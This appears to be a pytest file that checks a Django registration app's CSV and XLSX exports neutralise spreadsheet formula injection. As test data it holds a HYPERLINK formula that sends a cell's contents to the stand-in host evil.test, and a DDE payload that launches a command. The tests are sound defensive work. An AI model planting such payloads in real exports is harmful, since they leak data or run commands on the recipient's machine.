"""Finding 2: spreadsheet formula injection. Exports built from text typed by the public neutralise cells that a
spreadsheet would run as a formula (OWASP "CSV injection": =, +, -, @, tab, CR), and XLSX cells are never formulas."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from tests.factories import LabFactory, MeetingFactory, RegistrationFactory

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://evil.test/?d="&C2,"Apri")'
CHANGELIST = reverse("admin:labs_meeting_changelist")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Comune di Bergamo", "Comune di Bergamo"),
        ("", ""),
        (None, None),
        (3, 3),
    ],
)
def test_safe_cell(value, expected):
    from core.spreadsheets import safe_cell

    assert safe_cell(value) == expected


@pytest.fixture
def hostile_registration():
    meeting = MeetingFactory(title="Incontro", lab=LabFactory(title="Lab"))
    return RegistrationFactory(
        meeting=meeting, first_name=NAME, last_name="@Rossi", organization="+1+1", role="-cmd", email="x@example.it"
    )


def _export(client, action, meeting):
    return client.post(CHANGELIST, {"action": action, "_selected_action": [meeting.pk]})


def test_the_registrants_csv_neutralises_formulas(secretary_client, hostile_registration):
    response = _export(secretary_client, "export_registrants_csv", hostile_registration.meeting)
    rows = list(csv.reader(io.StringIO(response.content.decode().lstrip("\ufeff")), delimiter=";"))
    header, row = rows[0], rows[1]
    cells = dict(zip(header, row, strict=True))
    assert cells["nome"] == "'" + NAME
    assert cells["cognome"] == "'@Rossi"
    assert cells["ente"] == "'+1+1"
    assert cells["ruolo"] == "'-cmd"
    assert cells["email"] == "x@example.it"


def test_the_registrants_xlsx_has_no_formula_cells(secretary_client, hostile_registration):
    response = _export(secretary_client, "export_registrants_xlsx", hostile_registration.meeting)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    cells = dict(zip(header, rows[1], strict=True))
    # Typed cells: the text as typed in string cells (a string cell is never run), with Excel's quote prefix where it
    # starts with "=" (core.spreadsheets.append_row), and the two real date cells; never a formula.
    assert (cells["nome"].value, cells["nome"].data_type, cells["nome"].quotePrefix) == (NAME, "s", True)
    assert (cells["ente"].value, cells["ente"].data_type) == ("+1+1", "s")
    assert {cell.data_type for row in rows for cell in row if cell.value is not None} == {"s", "d"}


def test_the_lab_report_csv_neutralises_formulas(secretary_client):
    lab = LabFactory(title="=cmd|' /C calc'!A0", slug="lab-formula")
    RegistrationFactory(meeting=MeetingFactory(lab=lab), organization="=Comune di Bergamo")
    response = secretary_client.get(reverse("admin:labs_lab_report", args=[lab.pk]), {"format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode().lstrip("\ufeff")), delimiter=";"))
    assert rows[1][0] == "'=cmd|' /C calc'!A0"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
